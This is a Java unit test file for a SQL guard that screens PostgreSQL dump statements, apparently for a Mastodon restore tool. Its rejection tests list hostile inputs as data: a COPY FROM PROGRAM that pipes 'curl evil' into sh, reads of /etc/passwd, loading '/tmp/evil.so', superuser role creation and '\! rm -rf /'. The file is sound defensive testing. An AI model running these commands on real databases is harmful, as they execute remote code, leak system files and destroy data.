package social.fedimon.engine.dump;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Set;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SqlGuardTest {

  private final SqlGuard guard = new SqlGuard(Set.of("plpgsql"), TargetServer.assumed(15));

  @ParameterizedTest
  @ValueSource(
      strings = {
        "SET statement_timeout = 0;",
        "SET client_encoding = 'UTF8';",
        "SELECT pg_catalog.set_config('search_path', '', false);",
        "SELECT pg_catalog.setval('public.accounts_id_seq', 240, true);",
        "CREATE TABLE public.t (id bigint);",
        "CREATE UNIQUE INDEX i ON public.t USING btree (id);",
        "CREATE FUNCTION public.f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$;",
        "CREATE FUNCTION public.g() RETURNS int LANGUAGE sql AS 'SELECT 1';",
        "ALTER TABLE ONLY public.t ADD CONSTRAINT t_pkey PRIMARY KEY (id);",
        "COPY public.t (id) FROM stdin;",
        "CREATE EXTENSION IF NOT EXISTS plpgsql WITH SCHEMA pg_catalog;",
        "COMMENT ON TABLE public.t IS 'x';",
        "REFRESH MATERIALIZED VIEW public.instances;"
      })
  void runsWhatPgDumpWrites(String sql) {
    assertThat(guard.statement(sql, 1)).isInstanceOf(GuardDecision.Run.class);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "ALTER TABLE public.t OWNER TO mastodon;",
        "ALTER FUNCTION public.f() OWNER TO \"Some Role\";",
        "GRANT ALL ON TABLE public.t TO mastodon;",
        "REVOKE ALL ON SCHEMA public FROM PUBLIC;",
        "ALTER DEFAULT PRIVILEGES FOR ROLE x GRANT SELECT ON TABLES TO y;",
        "SET SESSION AUTHORIZATION 'mastodon';",
        "COMMENT ON EXTENSION plpgsql IS 'PL/pgSQL procedural language';",
        "CREATE DATABASE mastodon WITH TEMPLATE = template0;"
      })
  void dropsOwnershipAndPrivilegesAsNoOwnerNoPrivilegesWould(String sql) {
    assertThat(guard.statement(sql, 1)).isInstanceOf(GuardDecision.Skip.class);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "COPY public.t FROM PROGRAM 'curl evil | sh';",
        "COPY public.t TO '/etc/passwd';",
        "COPY (SELECT 1) TO PROGRAM 'id';",
        "ALTER SYSTEM SET shared_preload_libraries = 'evil';",
        "CREATE ROLE evil SUPERUSER;",
        "CREATE USER evil;",
        "ALTER ROLE mastodon SUPERUSER;",
        "DROP ROLE mastodon;",
        "GRANT pg_execute_server_program TO mastodon;",
        "SET ROLE postgres;",
        "SET session_replication_role = replica;",
        "CREATE LANGUAGE plperlu;",
        "CREATE FUNCTION f() RETURNS int LANGUAGE plperlu AS $$ `id` $$;",
        "CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/evil.so', 'f';",
        "CREATE FUNCTION f() RETURNS int AS $$ x $$ LANGUAGE 'internal';",
        "LOAD '/tmp/evil.so';",
        "DO $$ BEGIN PERFORM 1; END $$;",
        "CREATE EXTENSION adminpack;",
        "SELECT pg_read_file('/etc/passwd');",
        "CREATE EVENT TRIGGER t ON ddl_command_start EXECUTE FUNCTION f();",
        "CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p;",
        "VACUUM FULL;",
        "TRUNCATE public.t;"
      })
  void rejectsWhatPgDumpNeverWrites(String sql) {
    GuardDecision decision = guard.statement(sql, 7);

    assertThat(decision).isInstanceOf(GuardDecision.Reject.class);
    assertThat(((GuardDecision.Reject) decision).problem().code().code())
        .isEqualTo("privileged-sql");
    assertThat(((GuardDecision.Reject) decision).problem().message()).contains("line 7");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "\\! rm -rf /",
        "\\o | sh",
        "\\copy t from program 'id'",
        "\\set x 1",
        "\\i /etc/passwd",
        "\\g | sh",
        "\\connect other"
      })
  void rejectsMetaCommands(String text) {
    assertThat(guard.metaCommand(text, 3)).isInstanceOf(GuardDecision.Reject.class);
  }

  @ParameterizedTest
  @ValueSource(strings = {"\\restrict abc123", "\\unrestrict abc123"})
  void acceptsRestrictMarkers(String text) {
    assertThat(guard.metaCommand(text, 3)).isInstanceOf(GuardDecision.Skip.class);
  }

  @org.junit.jupiter.api.Test
  void acceptsConnectOnlyToTheDumpsOwnDatabase() {
    guard.statement(
        "CREATE DATABASE mastodon_production WITH TEMPLATE = template0 ENCODING = 'UTF8';", 1);

    assertThat(guard.metaCommand("\\connect mastodon_production", 2))
        .isInstanceOf(GuardDecision.Skip.class);
    assertThat(
            guard.metaCommand("\\connect -reuse-previous=on \"dbname='mastodon_production'\"", 2))
        .isInstanceOf(GuardDecision.Skip.class);
    assertThat(guard.metaCommand("\\connect postgres", 2)).isInstanceOf(GuardDecision.Reject.class);
  }

  @org.junit.jupiter.api.Test
  void leavesOutSettingsTheTargetDoesNotKnowWithAWarning() {
    GuardDecision on15 = guard.statement("SET transaction_timeout = 0;", 9);
    GuardDecision on17 =
        new SqlGuard(Set.of("plpgsql"), TargetServer.assumed(17))
            .statement("SET transaction_timeout = 0;", 9);

    assertThat(on15).isInstanceOf(GuardDecision.Skip.class);
    assertThat(((GuardDecision.Skip) on15).warning().code().code())
        .isEqualTo("unsupported-statement");
    assertThat(on17).isInstanceOf(GuardDecision.Run.class);
  }

  /**
   * Names of 200,000 characters, or of 100,000 doubled quotes: expressions that loop once per
   * character recursed that deep and overflowed the stack (the fuzzer found one in a cluster dump's
   * CREATE ROLE). Each is decided, and the name comes out whole.
   */
  @org.junit.jupiter.api.Test
  void longQuotedNamesAreReadWithoutRecursingPerCharacter() {
    String bare = "t".repeat(200_000);
    String quotes = "\"" + "\"\"".repeat(100_000) + "\"";
    String text = "'" + "''".repeat(100_000) + "x'";

    assertThat(PlainDumpReader.tableOf("COPY public." + bare + " (id) FROM stdin;"))
        .isEqualTo("public." + bare);
    String quotedName = "\"" + "a\"\"".repeat(50_000) + "\"";
    assertThat(PlainDumpReader.tableOf("COPY " + quotedName + ".t (id) FROM stdin;"))
        .isEqualTo(quotedName + ".t");
    assertThat(guard.statement("SELECT pg_catalog.setval(" + text + ", 1, true);", 1))
        .isInstanceOf(GuardDecision.Run.class);
    assertThat(guard.statement("ALTER TABLE public.t OWNER TO " + quotes + ";", 1))
        .isInstanceOf(GuardDecision.Skip.class);
    assertThat(guard.statement("\\connect \"dbname=" + text + "\"", 1)).isNotNull();
    ClusterGlobals globals = new ClusterGlobals();
    assertThat(globals.leavesOut("CREATE ROLE " + quotes + ";", true)).isTrue();
    assertThat(globals.leavesOut("CREATE ROLE \"" + bare + ";", true)).isTrue();
    assertThat(globals.contents().roles().get(0)).isEqualTo(SqlGuard.unquoteName(quotes));
  }
}
